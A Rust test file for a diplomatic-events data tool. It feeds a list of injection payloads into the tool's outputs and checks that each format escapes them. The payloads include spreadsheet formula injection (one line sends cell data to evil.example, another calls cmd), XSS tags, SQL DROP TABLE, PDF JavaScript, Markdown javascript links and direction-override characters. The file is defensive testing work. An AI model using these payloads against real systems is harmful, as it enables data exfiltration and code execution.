//! A package from a stranger does nothing in the program that opens an output.

use std::fs;

use resvg::usvg::roxmltree;

use crate::cli::diplograph;
use crate::package_folder::Folder;

/// Texts that some reader would run, follow or take for a part of its own.
pub const PAYLOADS: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "\"];evil[label=\"x",
    "| a | b | [x](javascript:alert(1)) `c`",
    "![x](https://evil.example/pixel) <b>b</b>",
    "a\\;b,c:d%%{init: {}}%%",
    "'; DROP TABLE events; --",
    "x)>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>endobj%",
    "click e href \"javascript:alert(1)\" ; %%{init: {'securityLevel': 'loose'}}%%",
];

/// Adds a row to a table: these values, and in every column that tells in words what the text says.
fn add(folder: &Folder, table: &str, values: &[(&str, &str)], text: &str) {
    let file = fs::read_to_string(folder.table(table)).unwrap();
    let words = ["note", "title", "title_then", "publisher", "venue", "name"];
    let cell = |column: &str| {
        let value = values.iter().find(|(name, _)| *name == column).map(|(_, value)| *value);
        let value = value.unwrap_or(if words.contains(&column) { text } else { "" });
        format!("\"{}\"", value.replace('"', "\"\""))
    };
    let row: Vec<String> = file.lines().next().unwrap().split(',').map(cell).collect();
    folder.append(table, &format!("{}\n", row.join(",")));
}

/// Makes a package in which each text stands wherever a text may.
pub fn package(payloads: &[&str]) -> Folder {
    let folder = Folder::tiny();
    for (number, text) in payloads.iter().enumerate() {
        let id = |kind: &str| format!("{kind}-x{number}");
        let (source, party, person, event) = (id("source"), id("party"), id("person"), id("event"));
        let (address, round) = (format!("https://example.org/x{number}"), (number + 3).to_string());
        let date = format!("2018-{:02}", number + 1);
        let add = |table: &str, values: &[(&str, &str)]| {
            let rests = [("certainty", "certain"), ("sources", &*source)];
            add(&folder, table, &[values, &rests].concat(), text);
        };
        let published = [("published", "2017-01-24"), ("language", "en"), ("url", &*address)];
        add("sources", &[&[("id", &*source), ("kind", "press")][..], &published].concat());
        add("parties", &[("id", &party), ("kind", "state")]);
        add("people", &[("id", &person)]);
        let place = [("place", "astana"), ("host", &*party), ("mode", "in_person")];
        let what = [("id", &*event), ("process", "talks"), ("kind", "round"), ("number", &*round)];
        add("events", &[&what[..], &place, &[("date", &*date), ("status", "held")]].concat());
        let takes_part = [("event", &*event), ("party", &*party)];
        let how = [("role", "guarantor"), ("presence", "attended"), ("level", "minister")];
        add("participations", &[&takes_part[..], &how].concat());
        let who = [("person", &*person), ("function", "head")];
        add("delegates", &[&takes_part[..], &who].concat());
        for thing in [&party, &person, &event] {
            add("names", &[("entity", thing), ("lang", "en"), ("kind", "pref")]);
        }
    }
    folder
}

/// Returns what a command writes about a package.
fn written(folder: &Folder, command: &[&str]) -> String {
    let data = folder.path().to_string_lossy().into_owned();
    let run = diplograph(&[command, &["--data", &data]].concat());
    assert_eq!(run.code, 0, "{command:?}: {}", run.stderr);
    run.stdout
}

#[test]
fn a_spreadsheet_finds_no_formula_in_a_table() {
    let folder = package(&PAYLOADS);
    for command in [&["timeline", "--tidy"][..], &["sources"], &["delegations", "heads"]] {
        let text = written(&folder, &[command, &["--format", "csv"]].concat());
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for row in reader.records() {
            for cell in row.unwrap().iter().filter(|cell| cell.parse::<f64>().is_err()) {
                assert!(!cell.starts_with(['=', '+', '@', '\t']), "{command:?}: {cell}");
            }
        }
    }
}

#[test]
fn a_page_and_a_picture_have_no_element_from_a_text() {
    let folder = package(&PAYLOADS);
    let page = written(&folder, &["explore"]);
    assert!(!page.contains("<script>alert") && !page.contains("<img src=x"));
    for kind in ["attendance", "network", "delegations", "timeline"] {
        let svg = written(&folder, &["diagram", kind, "--format", "svg"]);
        let document = roxmltree::Document::parse(&svg).unwrap();
        for node in document.descendants().filter(roxmltree::Node::is_element) {
            let name = node.tag_name().name();
            assert!(!matches!(name, "script" | "img" | "image" | "b"), "{kind}");
            let handler = node.attributes().find(|it| it.name().starts_with("on"));
            assert!(handler.is_none(), "{kind}");
        }
    }
}

#[test]
fn a_graph_in_dot_has_no_node_or_attribute_from_a_text() {
    let folder = package(&PAYLOADS);
    for kind in ["attendance", "network", "delegations", "timeline"] {
        let dot = written(&folder, &["diagram", kind, "--format", "dot"]);
        let graph = graphviz_rust::parse(&dot).unwrap_or_else(|error| panic!("{kind}: {error}"));
        assert!(!format!("{graph:?}").contains("Plain(\"evil\")"), "{kind}");
    }
}

#[test]
fn a_table_in_markdown_keeps_its_columns_and_has_no_markup_from_a_text() {
    let folder = package(&PAYLOADS);
    for command in [&["timeline", "--tidy"][..], &["sources"], &["delegations", "heads"]] {
        let text = written(&folder, &[command, &["--format", "md"]].concat());
        let columns = |line: &str| {
            let bare = line.replace("\\\\", "").replace("\\|", "");
            bare.matches('|').count()
        };
        let rows: Vec<&str> = text.lines().filter(|line| line.starts_with('|')).collect();
        assert!(rows.len() > 2, "{text}");
        for row in &rows {
            assert_eq!(columns(row), columns(rows[0]), "{command:?}: {row}");
        }
        for markup in ["<script>", "<img", "<b>", "](javascript:", "](https://evil"] {
            let bare = text.replace("\\<", "").replace("\\[", "").replace("\\]", "");
            assert!(!bare.contains(markup), "{command:?} {markup}: {text}");
        }
    }
}

#[test]
fn a_calendar_and_a_document_hold_a_text_as_it_is_and_nothing_beside_it() {
    let folder = package(&PAYLOADS);
    let calendar = written(&folder, &["timeline", "--format", "ics"]);
    for line in calendar.split("\r\n").filter(|line| !line.is_empty() && !line.starts_with(' ')) {
        let name = line.split([':', ';']).next().unwrap();
        assert!(name.bytes().all(|b| b.is_ascii_uppercase() || b == b'-'), "{line}");
    }
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let party = format!("party-x{number}");
        let json = written(&folder, &["show", &party, "--format", "json"]);
        let card: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(card["title"], *payload);
    }
    for form in ["json", "vega-lite", "timelinejs"] {
        let json = written(&folder, &["timeline", "--format", form]);
        assert!(serde_json::from_str::<serde_json::Value>(&json).is_ok(), "{form}");
    }
}

#[test]
fn controls_and_marks_that_turn_the_direction_are_refused_before_anything_is_written() {
    for payload in ["\u{202e}gpj.exe", "\u{1b}[2J", "a\u{7}b", "\u{2066}x"] {
        let folder = package(&[payload]);
        let data = folder.path().to_string_lossy().into_owned();
        for command in [&["timeline"][..], &["explore"], &["diagram", "network"]] {
            let run = diplograph(&[command, &["--data", &data]].concat());
            assert_eq!(run.code, 3, "{payload:?} {command:?}");
            assert!(run.stdout.is_empty() && !run.stderr.contains(payload), "{}", run.stderr);
        }
    }
}
